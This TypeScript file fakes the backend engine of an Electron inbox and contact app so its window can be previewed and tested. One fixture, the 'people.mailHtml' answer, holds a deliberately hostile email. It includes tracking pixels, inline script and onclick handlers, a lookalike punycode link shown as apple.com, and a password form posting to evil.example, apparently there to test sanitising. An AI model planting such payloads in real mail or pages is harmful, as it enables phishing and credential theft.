import type { DeskbellBridge, EngineState, HostEvent } from '../../preload/host-contract.ts'
import { type InboxRow, type InboxView, inboxView, type ListName, type SavedView } from '../../src/inbox/contract.ts'
import type { TimelineEntry } from '../../src/people/contract.ts'
import type { EventMessage } from '../../src/rpc/connect.ts'
import type { MethodInput, MethodName, MethodOutput } from '../../src/rpc/contract.ts'
import { type ErrorBody, notFound, toErrorBody } from '../../src/rpc/errors.ts'
import { channelAnswers } from './window-channels.ts'
import { makeWorld, type Scenario, unmarked, type World } from './window-data.ts'
import { deadlineAnswers } from './window-deadlines.ts'
import { duplicateAnswers } from './window-duplicates.ts'
import { enrichAnswers } from './window-enrich.ts'
import { handleAnswers } from './window-handles.ts'
import { healthAnswers } from './window-health.ts'
import { importAnswers } from './window-imports.ts'
import { labelAnswers } from './window-labels.ts'
import { predictAnswers } from './window-predict.ts'
import { reportAnswers } from './window-reports.ts'
import { routeAnswers } from './window-route.ts'
import { scoreAnswers } from './window-score.ts'
import { tone } from './window-sound.ts'
import { taskAnswers } from './window-tasks.ts'
import { templateAnswers } from './window-templates.ts'
import { timelineOf } from './window-timelines.ts'

/** What the made-up engine answers, or a part of it. */
export type Answers = {
  readonly [M in MethodName]?: (input: MethodInput<M>) => MethodOutput<M> | Promise<MethodOutput<M>>
}
type OpenCall = MethodOutput<'contact.openCalls'>['calls'][number]

export type FakeOptions = {
  readonly scenario: Scenario
  /** The engine has given up with this error. */
  readonly dead?: ErrorBody
  /** A call in this state is there from the start. */
  readonly call?: 'ringing' | 'in_progress' | 'ended'
  /** Never answers, to see what loading looks like. */
  readonly stuck?: boolean
}

const isBuiltIn = (view: ListName): view is InboxView => inboxView.safeParse(view).success
const sampleView = { id: 1, name: 'Big kitchens', icon: 'star', query: 'kitchen score:>60', sort: 'score' } as const

/** A bridge to a made-up engine inside the page, to look at the window without one. Not part of the product. */
export function fakeBridge(options: FakeOptions): DeskbellBridge {
  const world: World = makeWorld(options.scenario, Date.now())
  const listeners = new Set<(event: EventMessage) => void>()
  const hostListeners = new Set<(event: HostEvent) => void>()
  const undos = new Map<number, () => void>()
  let calls: OpenCall[] = options.call ? [openCall(options.call)] : []
  let nextId = 50_000
  const newId = () => nextId++
  let views: SavedView[] = options.scenario === 'sample' ? [{ ...sampleView }] : []
  let engine: EngineState = options.dead ? { state: 'gave-up', error: options.dead } : { state: 'running' }

  const emit = (name: EventMessage['name'], payload: unknown) => {
    for (const listener of listeners) listener({ kind: 'event', name, payload })
  }
  const changed = (personIds: number[] = []) =>
    emit('store.changed', {
      tables: ['lead', 'interaction', 'person', 'job', 'setting', 'member', 'account', 'template'],
      personIds,
      seq: nextId++,
    })
  type Patch = Partial<InboxRow> | ((row: InboxRow) => Partial<InboxRow>)
  const change = (ids: readonly number[], patch: Patch) => {
    const before = world.rows
    world.rows = world.rows.map((row) =>
      ids.includes(row.leadId) ? { ...row, ...(typeof patch === 'function' ? patch(row) : patch) } : row,
    )
    const undoId = nextId++
    undos.set(undoId, () => {
      world.rows = before
      changed()
    })
    changed()
    return { undoId }
  }
  const inView = (row: InboxRow, view: InboxView) => {
    const snoozed = row.snoozedUntil !== null && row.snoozedUntil > Date.now()
    if (view === 'all') return true
    if (view === 'done') return row.status === 'done'
    if (row.status !== 'open') return false
    if (view === 'snoozed') return snoozed
    if (snoozed) return view === 'inbox' && options.scenario === 'sample'
    if (view === 'hot') return row.tier === 'hot'
    if (view === 'due') return row.clock !== null
    if (view === 'waiting') return row.direction === 'out'
    if (view === 'mine') return row.owner?.id === world.settings.me
    if (view === 'unassigned') return row.owner === null
    if (view === 'calls') return row.missedCall
    if (view === 'mentions') return false
    return true
  }
  const sorted = (view: InboxView) =>
    world.rows.filter((row) => inView(row, view)).sort((a, b) => sortKey(a) - sortKey(b))
  const byName = (from: string) =>
    world.rows
      .toSorted((a, b) => a.name.localeCompare(b.name))
      .filter((row) => row.name.localeCompare(from, undefined, { sensitivity: 'base' }) >= 0)
  const timeline = (personId: number) => world.timelines.get(personId) ?? []
  const add = (personId: number, entry: TimelineEntry) => {
    world.timelines.set(personId, [...timeline(personId), entry])
    changed([personId])
  }
  const patchEntry = (
    jobId: number,
    patch: Partial<{ delivery: 'cancelled' | 'sent' | 'queued'; undoUntil: number | null; problem: null }>,
  ) => {
    for (const [personId, list] of world.timelines) {
      world.timelines.set(
        personId,
        list.map((it) => ('jobId' in it && it.jobId === jobId ? ({ ...it, ...patch } as TimelineEntry) : it)),
      )
    }
    changed()
  }
  const queue = (personId: number, entry: (jobId: number, undoUntil: number) => TimelineEntry) => {
    const jobId = nextId++
    const undoUntil = Date.now() + world.settings.undoSeconds * 1000
    const made = entry(jobId, undoUntil)
    add(personId, made)
    setTimeout(() => {
      const now = timeline(personId).find((it) => 'jobId' in it && it.jobId === jobId)
      if (now && 'delivery' in now && now.delivery === 'queued')
        patchEntry(jobId, { delivery: 'sent', undoUntil: null })
    }, undoUntil - Date.now())
    return { jobId, interactionId: made.id, undoUntil }
  }
  const base = () => ({ id: nextId++, at: Date.now(), author: 'Dana Whitfield', automatic: false })
  const addSomebody = (name: string): number => {
    const first = world.rows[0]
    const id = nextId++
    if (!first) throw notFound('A row to copy')
    const row: InboxRow = { ...first, leadId: id, personId: id, name, clock: null, preview: '', company: null }
    world.rows = [...world.rows, row]
    const card = world.cards.get(first.personId)
    if (card) world.cards.set(id, { ...card, personId: id, name })
    world.timelines.set(id, [])
    changed()
    return id
  }

  const answers: Answers = {
    'settings.get': () => world.settings,
    'settings.saveBusiness': (business) => {
      world.settings = { ...world.settings, business: business as typeof world.settings.business }
      changed()
      return {}
    },
    'settings.saveSla': (input) => {
      world.settings = { ...world.settings, ...(input as Pick<typeof world.settings, 'sla' | 'tiers'>) }
      changed()
      return {}
    },
    ...reportAnswers(world),
    ...scoreAnswers(world, changed),
    ...predictAnswers(world, changed),
    ...deadlineAnswers(world, changed),
    'settings.savePreferences': (input) => {
      world.settings = { ...world.settings, ...(input as Partial<typeof world.settings>) }
      changed()
      return {}
    },
    'team.list': () => ({ members: world.members }),
    'team.save': (member) => {
      const id = member.id ?? nextId++
      const before = world.members.find((it) => it.id === id)
      const { hours, calendar, skills, capacity, absences, ...rest } = member
      const saved = {
        ...rest,
        id,
        calendar: hours ? `member-${id}` : calendar === undefined ? (before?.calendar ?? null) : calendar,
        skills: skills ?? before?.skills ?? [],
        capacity: capacity === undefined ? (before?.capacity ?? null) : capacity,
        absences: (absences ?? before?.absences ?? []) as World['members'][number]['absences'],
      }
      world.members = [...world.members.filter((it) => it.id !== id), saved]
      changed()
      return { id, left: null }
    },
    'team.remove': ({ id }) => {
      world.members = world.members.filter((it) => it.id !== id)
      changed()
      return {}
    },
    'inbox.list': ({ view, after, limit }) => {
      const all = view.startsWith('names:') ? byName(view.slice(6)) : sorted(isBuiltIn(view) ? view : 'hot')
      const start = after ? all.findIndex((it) => it.leadId === after.leadId) + 1 : 0
      const rows = all.slice(start, start + limit)
      const last = rows.at(-1)
      return { rows, next: last && start + limit < all.length ? { sortKey: sortKey(last), leadId: last.leadId } : null }
    },
    'inbox.row': ({ personId }) => world.rows.find((it) => it.personId === personId) ?? null,
    ...labelAnswers({ rows: () => world.rows, change }),
    ...handleAnswers({
      cards: world.cards,
      save: (card) => {
        world.cards.set(card.personId, card)
        changed([card.personId])
      },
      close: (leadIds) => change(leadIds, { status: 'not_lead', clock: null }),
    }),
    'inbox.counts': () => {
      const count = (view: InboxView) => sorted(view).length
      const now = Date.now()
      const open = sorted('due')
      return {
        inbox: count('inbox'),
        hot: count('hot'),
        due: count('due'),
        waiting: count('waiting'),
        mine: count('mine'),
        unassigned: count('unassigned'),
        calls: count('calls'),
        snoozed: count('snoozed'),
        mentions: 0,
        late: open.filter((it) => (it.clock?.dueAt ?? now) < now).length,
        atRisk: open.filter((it) => it.clock && it.clock.dueAt >= now && it.clock.riskAt <= now).length,
      }
    },
    'inbox.urgent': () => sorted('due')[0] ?? null,
    'inbox.ids': ({ view }) => ({
      leadIds: sorted(isBuiltIn(view) ? view : 'hot').map((it) => it.leadId),
      more: false,
    }),
    'inbox.search': ({ text }) => ({ hits: search(text ?? ''), next: null, about: 'messages', problems: [] }),
    'inbox.views': () => ({ views: views }),
    'inbox.viewCounts': () => ({ counts: views.map(({ id }) => ({ id, count: sorted('hot').length })) }),
    'inbox.saveView': ({ id, ...view }) => {
      const saved = { id: id ?? nextId++, ...view }
      views = [...views.filter((it) => it.id !== saved.id), saved]
      changed()
      return { id: saved.id }
    },
    'inbox.removeView': ({ id }) => {
      views = views.filter((it) => it.id !== id)
      changed()
      return {}
    },
    'inbox.restoreView': () => ({}),
    'inbox.moveView': () => ({}),
    'inbox.seeMentions': () => ({ seen: 0 }),
    'inbox.snoozeTimes': () => ({
      times: [
        { key: 'reply', label: 'Until they reply', until: Date.now() + 50 * 3_600_000 },
        { key: 'later', label: 'Later today', until: Date.now() + 3 * 3_600_000 },
        { key: 'tomorrow', label: 'Tomorrow', until: Date.now() + 20 * 3_600_000 },
      ],
      zone: 'America/New_York',
    }),
    'inbox.readTime': ({ text }) => ({ until: /tomorrow/.test(text) ? Date.now() + 20 * 3_600_000 : null }),
    'inbox.waiting': ({ leadIds, waiting }) => change(leadIds, { direction: waiting ? 'out' : 'in' }),
    'inbox.done': ({ leadIds }) => change(leadIds, { status: 'done', clock: null }),
    'inbox.reopen': ({ leadIds }) => change(leadIds, { status: 'open', snoozedUntil: null }),
    'inbox.snooze': ({ leadIds, until }) => change(leadIds, { snoozedUntil: until }),
    'inbox.assign': ({ leadIds, memberId }) => {
      const member = world.members.find((it) => it.id === memberId)
      return change(leadIds, { owner: member ? { id: member.id, name: member.name } : null })
    },
    'inbox.notALead': ({ leadIds }) => change(leadIds, { status: 'not_lead', clock: null }),
    'inbox.undo': ({ undoId }) => {
      undos.get(undoId)?.()
      return { undone: undos.delete(undoId) }
    },
    'people.card': ({ personId }) => {
      const card = world.cards.get(personId)
      if (!card) throw notFound('This person')
      const row = world.rows.find((it) => it.personId === personId)
      return card.lead && row ? { ...card, lead: { ...card.lead, row } } : card
    },
    ...duplicateAnswers(world, newId, changed),
    ...enrichAnswers(changed),
    ...routeAnswers(world, changed),
    ...taskAnswers(world, newId, changed),
    'people.timeline': ({ personId, before, limit }) => {
      const all = timeline(personId)
      const end = before ? all.findIndex((it) => it.id === before.id) : all.length
      return { entries: all.slice(Math.max(0, end - limit), end), more: end > limit }
    },
    'score.textModel': () => ({
      state: 'ready',
      message: 'What people want, and how urgent it is, is read on this computer. Nothing is sent anywhere.',
      waiting: 0,
    }),
    'score.correctIntent': () => ({ was: null }),
    'people.mailHtml': () => ({
      html: '<html><head><style>.x{background:url(https://tracker.example/bg.png)} h2{color:#0a6b4d}</style></head><body><h2>Quote for the kitchen</h2><p onclick="alert(1)">Thanks! Could you also include the <b>worktop</b>?</p><img src="https://tracker.example/pixel.gif" width="1" height="1"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" width="60" height="40"><p><a href="https://xn--pple-43d.com/login">https://apple.com</a></p><script>document.title="hacked"</script><form action="https://evil.example"><input name="pw"></form></body></html>',
    }),
    'people.attachment': () => ({ name: 'voicemail.wav', contentType: 'audio/wav', bytes: tone() }),
    'people.fetchFile': () => ({}),
    'people.update': ({ personId, ...rest }) => {
      const card = world.cards.get(personId)
      if (card) world.cards.set(personId, { ...card, ...(rest as object) })
      world.rows = world.rows.map((it) => (it.personId === personId ? { ...it, ...(rest as object) } : it))
      changed([personId])
      return {}
    },
    'people.addHandle': ({ personId, kind, value }) => {
      const card = world.cards.get(personId)
      const id = nextId++
      if (card)
        world.cards.set(personId, {
          ...card,
          handles: [
            ...card.handles,
            { id, kind, value, display: value, label: null, valid: true, consent: 'implied', ...unmarked },
          ],
        })
      changed([personId])
      return { handleId: id }
    },
    'people.add': ({ name }) => ({ personId: addSomebody(name) }),
    'people.find': ({ text, limit }) => ({
      people: [...world.cards.values()]
        .filter((it) =>
          `${it.name} ${it.handles.map((h) => h.display).join(' ')}`.toLowerCase().includes((text ?? '').toLowerCase()),
        )
        .slice(0, limit)
        .map(({ personId, name, company, handles }) => ({ personId, name, company, handles })),
    }),
    'contact.whatsApp': () => ({ isSetUp: true }),
    'contact.preparedMessages': () => ({
      messages: [
        {
          contentSid: `HX${'1'.repeat(32)}`,
          name: 'visit_reminder',
          language: 'en',
          body: 'Hello {{1}}, we come on {{2}} between 8 and 10. Please answer YES if that suits you.',
          variables: [
            { key: '1', example: 'Ana' },
            { key: '2', example: 'Monday' },
          ],
        },
        {
          contentSid: `HX${'2'.repeat(32)}`,
          name: 'still_interested',
          language: 'es',
          body: '¿Sigue interesado? Estaremos encantados de ayudarle.',
          variables: [],
        },
      ],
    }),
    'contact.sendPrepared': ({ personId, contentSid }) =>
      queue(personId, (jobId, undoUntil) => ({
        ...base(),
        kind: 'text',
        channel: 'whatsapp',
        direction: 'out',
        text: `Template ${contentSid.slice(0, 4)}`,
        from: '',
        to: '',
        delivery: 'queued',
        problem: null,
        attachments: [],
        jobId,
        undoUntil,
      })),
    'contact.sendText': ({ personId, body }) =>
      queue(personId, (jobId, undoUntil) => ({
        ...base(),
        kind: 'text',
        channel: 'sms',
        direction: 'out',
        text: body,
        from: '',
        to: '',
        delivery: 'queued',
        problem: null,
        attachments: [],
        jobId,
        undoUntil,
      })),
    'contact.sendMail': ({ personId, subject, body }) =>
      queue(personId, (jobId, undoUntil) => ({
        ...base(),
        kind: 'email',
        channel: 'email',
        direction: 'out',
        subject,
        text: body,
        from: 'dana@brightwater.example',
        to: [],
        quoted: null,
        hasHtml: false,
        robot: null,
        delivery: 'queued',
        problem: null,
        attachments: [],
        jobId,
        undoUntil,
      })),
    'contact.forwardMail': ({ personId, interactionId, to, subject, body, quoted }) =>
      queue(personId, (jobId, undoUntil) => {
        const mail = timeline(personId).find((it) => it.id === interactionId)
        if (mail?.kind !== 'email') throw notFound('This mail')
        const own = { ...base(), direction: 'internal', delivery: 'queued', jobId, undoUntil } as const
        const { insight: _, ...rest } = mail
        return {
          ...rest,
          ...own,
          to: [to ?? ''],
          subject: subject ?? '',
          text: body ?? '',
          quoted: quoted ?? null,
          hasHtml: false,
        }
      }),
    'contact.cancelSend': ({ jobId }) => {
      patchEntry(jobId, { delivery: 'cancelled', undoUntil: null })
      return { cancelled: true }
    },
    'contact.retrySend': ({ jobId }) => {
      patchEntry(jobId, { delivery: 'sent', problem: null })
      return { jobId, interactionId: 1, undoUntil: Date.now() }
    },
    'contact.addNote': ({ personId, text }) => {
      const entry: TimelineEntry = { ...base(), kind: 'note', channel: 'note', direction: 'internal', text, version: 1 }
      add(personId, entry)
      return { interactionId: entry.id }
    },
    'contact.dial': ({ personId }) => {
      calls = [
        {
          ...openCall('ringing'),
          personId,
          name: world.cards.get(personId)?.name ?? '',
          interactionId: nextId++,
          startedAt: Date.now(),
        },
      ]
      changed([personId])
      return { interactionId: nextId }
    },
    'contact.hangUp': () => {
      calls = calls.map((it) => ({ ...it, result: 'ended', endedAt: Date.now() }))
      changed()
      return {}
    },
    'contact.setOutcome': ({ interactionId, outcome }) => {
      calls = calls.filter((it) => it.interactionId !== interactionId)
      for (const [personId, list] of world.timelines) {
        const said = list.map((it) => (it.kind === 'call' && it.id === interactionId ? { ...it, outcome } : it))
        world.timelines.set(personId, said)
      }
      changed()
      return {}
    },
    'contact.noteCall': ({ interactionId, note }) => {
      calls = calls.map((it) => (it.interactionId === interactionId ? { ...it, note } : it))
      return {}
    },
    'contact.logCall': ({ personId, direction, outcome, note }) => {
      const entry: TimelineEntry = {
        ...base(),
        kind: 'call',
        channel: 'call',
        direction,
        text: '',
        from: '',
        to: '',
        result: 'answered',
        outcome,
        durationMs: null,
        note,
        recording: null,
        manual: true,
        problem: null,
      }
      add(personId, entry)
      return { interactionId: entry.id }
    },
    'contact.openCalls': () => ({ calls }),
    ...templateAnswers(newId, changed),
    ...channelAnswers(world, newId, changed),
    ...healthAnswers(world, changed),
    ...importAnswers(world, emit, (person) => addSomebody(person), options.scenario),
    'store.backup': () => ({ bytes: 1_234_567, people: 8, interactions: 90, at: Date.now() }),
    'store.inspectBackup': () => ({ people: 8, interactions: 90, version: 10, at: Date.now() - 86_400_000 }),
    'store.restore': () => ({ keptAs: 'deskbell.db.before-restore' }),
  }

  function search(text: string): MethodOutput<'inbox.search'>['hits'] {
    const wanted = text.toLowerCase()
    const hits: MethodOutput<'inbox.search'>['hits'] = []
    for (const [personId, list] of world.timelines) {
      const row = world.rows.find((it) => it.personId === personId)
      for (const entry of list) {
        const at = entry.text.toLowerCase().indexOf(wanted)
        if (at < 0 || !row || entry.kind === 'event') continue
        const snippet = `${entry.text.slice(Math.max(0, at - 30), at)}\uE000${entry.text.slice(at, at + text.length)}\uE001${entry.text.slice(at + text.length, at + 80)}`
        hits.push({
          personId,
          name: row.name,
          company: row.company,
          interactionId: entry.id,
          channel: entry.channel,
          at: entry.at,
          snippet,
        })
      }
    }
    return hits.slice(0, 50)
  }

  const host = {
    openExternal: { opened: true },
    chooseSavePath: { path: '/home/dana/deskbell.deskbell' },
    chooseOpenPath: { path: '/home/dana/deskbell.deskbell' },
    saveFile: { path: '/home/dana/floor plan.pdf' },
    workspace: { current: 'business', sampleExists: false, dataFolder: '/home/dana/.config/deskbell' },
    openWorkspace: {},
    removeSample: {},
    secretsBackend: {
      name: 'gnome_libsecret',
      protected: true,
      message: 'Passwords are kept in the keyring of this computer.',
    },
    copyText: {},
    setBadge: {},
    testNotification: { supported: true },
    handleTelLinks: { on: true },
    about: { version: '0.1.0', electron: '45.4.1', platform: 'linux', dataFolder: '/home/dana/.config/deskbell' },
    ready: { dark: null },
  } as const
  const services: Record<string, (input: never) => Promise<unknown>> = Object.fromEntries(
    Object.entries(host).map(([name, value]) => [name, () => Promise.resolve({ ok: true, value })]),
  )
  services.engineState = () => Promise.resolve({ ok: true, value: engine })
  services.retryEngine = () => {
    engine = { state: 'running' }
    for (const listener of hostListeners) listener({ name: 'engine.state', payload: engine })
    return Promise.resolve({ ok: true, value: engine })
  }
  services.restoreBackup = async () => {
    await services.retryEngine?.({} as never)
    return { ok: true, value: {} }
  }

  // For the console and for tests that look at the window: makes things happen from outside.
  Object.assign(globalThis, {
    fakeEngine: {
      emit,
      host: (event: HostEvent) => {
        for (const listener of hostListeners) listener(event)
      },
      arrive: (personId: number, text: string) => {
        const row = world.rows.find((it) => it.personId === personId)
        const like =
          row && timelineOf(row, Date.now(), 'sample').find((it) => it.kind === 'text' && it.direction === 'in')
        if (like) add(personId, { ...like, id: nextId++, at: Date.now(), text })
      },
    },
  })

  return {
    call: async (method, input) => {
      if (options.stuck) return new Promise(() => undefined)
      if (engine.state === 'gave-up') return { ok: false, error: engine.error }
      // What crosses the real bridge is a copy, too.
      const answer = answers[method as MethodName] as ((input: unknown) => unknown) | undefined
      if (!answer) return { ok: false, error: notFound(`Method ${method}`).body }
      try {
        await new Promise((resolve) => setTimeout(resolve, 8))
        return { ok: true, value: structuredClone(await answer(structuredClone(input))) }
      } catch (error) {
        return { ok: false, error: toErrorBody(error) }
      }
    },
    onEvent: (listener) => {
      listeners.add(listener)
      return () => void listeners.delete(listener)
    },
    host: {
      ...services,
      onEvent: (listener: (event: HostEvent) => void) => {
        hostListeners.add(listener)
        return () => void hostListeners.delete(listener)
      },
    } as DeskbellBridge['host'],
  }
}

const sortKey = (row: InboxRow) => row.clock?.dueAt ?? Number.MAX_SAFE_INTEGER - row.lastAt

function openCall(result: OpenCall['result']): OpenCall {
  const now = Date.now()
  return {
    interactionId: 77,
    personId: 2,
    name: 'Ana Lopez',
    number: '(415) 555-0102',
    direction: 'out',
    result,
    startedAt: now - 175_000,
    answeredAt: result === 'ringing' ? null : now - 167_000,
    endedAt: result === 'ended' ? now : null,
    note: '',
    problem: null,
  }
}
